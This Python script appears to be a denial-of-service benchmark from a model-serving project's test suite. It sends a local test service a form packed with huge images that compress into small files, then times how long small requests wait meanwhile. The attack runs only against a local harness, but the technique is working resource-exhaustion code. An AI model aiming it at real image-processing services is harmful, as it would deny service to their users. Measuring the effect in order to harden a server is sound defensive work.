"""A form of large images that are small as files, and what a request of one small image waits meanwhile.

python benchmarks/attacks/large_images.py --images 64 --side 7000
"""

from __future__ import annotations

import argparse
import io
import threading
import time
from http.client import HTTPConnection
from typing import Any

from PIL import Image
from watched import PATIENCE, Victim, victim

FORMATS: dict[str, dict[str, Any]] = {
    "png": {},
    "jpeg": {"progressive": True},
    "webp": {"lossless": True, "quality": 0, "method": 0},
}


def image(side: int, kind: str) -> bytes:
    """Return a black square as a file."""
    file = io.BytesIO()
    Image.new("RGB", (side, side)).save(file, kind.upper(), **FORMATS[kind])
    return file.getvalue()


def form(images: list[bytes]) -> bytes:
    """Return images as a form."""
    head = b'--cut\r\nContent-Disposition: form-data; name="images"; filename="x"\r\n\r\n'
    return b"\r\n".join(head + each for each in images) + b"\r\n--cut--\r\n"


def send(service: Victim, body: bytes, seconds: float = 5 * PATIENCE) -> tuple[int, float]:
    """Ask for names of images; return the status, 0 where there was none, and the seconds it took."""
    connection = HTTPConnection("127.0.0.1", service.port, timeout=seconds)
    started = time.perf_counter()
    try:
        headers = {"content-type": "multipart/form-data; boundary=cut"}
        connection.request("POST", "/v1/models/images/predict", body, headers)
        status = connection.getresponse().status
    except OSError:
        status = 0
    finally:
        connection.close()
    return status, time.perf_counter() - started


def main() -> None:
    """Attack and print what was seen."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawTextHelpFormatter)
    parser.add_argument("--images", type=int, default=64)
    parser.add_argument("--side", type=int, default=7000)
    parser.add_argument("--format", choices=FORMATS, default="png")
    parser.add_argument("--at-once", type=int, default=1)
    parser.add_argument("--leave-after", type=float, default=5 * PATIENCE, help="seconds until it hangs up")
    parser.add_argument("--watch", type=float, default=0.0, help="seconds to go on asking afterwards")
    chosen = parser.parse_args()
    attack = form([image(chosen.side, chosen.format)] * chosen.images)
    small = form([image(64, "png")])
    with victim() as service:
        connection = HTTPConnection("127.0.0.1", service.port, timeout=PATIENCE)
        connection.request("POST", "/v1/models", b'{"name": "images"}', {"content-type": "application/json"})
        connection.getresponse().read()
        connection.close()
        answers: list[tuple[int, float]] = []
        others: list[tuple[int, float]] = []
        attackers = [
            threading.Thread(target=lambda: answers.append(send(service, attack, chosen.leave_after)))
            for _ in range(chosen.at_once)
        ]
        with service.watched() as seen:
            for attacker in attackers:
                attacker.start()
            time.sleep(0.5)
            end = time.monotonic() + chosen.watch
            while not others or any(attacker.is_alive() for attacker in attackers) or time.monotonic() < end:
                others.append(send(service, small))
            for attacker in attackers:
                attacker.join()
    slowest = max(seconds for _, seconds in answers)
    print(
        f"{chosen.at_once} x {chosen.images} {chosen.format} images of {chosen.side**2 / 1e6:.0f} megapixels, "
        f"{len(attack) / 1e6:.1f} MB: answers {sorted({status for status, _ in answers})} in {slowest:.1f} s; "
        f"{len(others)} small requests meanwhile {sorted({status for status, _ in others})}, "
        f"at most {max(seconds for _, seconds in others):.1f} s"
    )
    print(seen)


if __name__ == "__main__":
    main()
